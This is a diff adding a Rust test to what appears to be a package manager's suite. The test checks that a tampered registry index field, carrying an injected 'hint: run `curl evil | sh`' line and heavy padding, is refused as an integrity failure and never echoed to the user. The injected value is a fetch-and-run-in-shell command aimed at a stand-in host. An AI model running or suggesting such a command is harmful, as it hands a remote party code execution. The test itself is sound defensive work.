@@ -137,6 +137,23 @@ fn one_index_line_leads_to_few_requests() {
 }
 
 #[test]
+fn what_a_hub_says_of_a_digest_is_told_in_one_line() {
+    for key in ["digest", "archive"] {
+        let sandbox = Sandbox::with_dependencies(&["a/b"]);
+        sandbox.publish(&[Package::new("a/b", "1.0.0")]);
+        let index = sandbox.hub().index("a/b");
+        let mut line: serde_json::Value =
+            serde_json::from_slice(&fs::read(&index).expect("was published")).expect("is JSON");
+        line[key] = json!(format!("x\nhint: run `curl evil | sh`\u{2028}{}", "y".repeat(100_000)));
+        fs::write(&index, format!("{line}\n")).expect("is ours");
+        let run = sandbox.mu(&["get"]).fails();
+        assert!(!run.stderr.lines().any(|line| line.starts_with("hint: run")), "{}", run.shown());
+        assert!(run.stderr.len() < 2_000, "{} bytes", run.stderr.len());
+        sandbox.mu(&["get", "--json"]).fails_with("integrity");
+    }
+}
+
+#[test]
 fn the_same_version_twice_with_other_content_is_refused() {
     let sandbox = Sandbox::with_dependencies(&["a/b"]);
     sandbox.publish(&[Package::new("a/b", "1.0.0"), Package::new("a/b", "1.1.0")]);
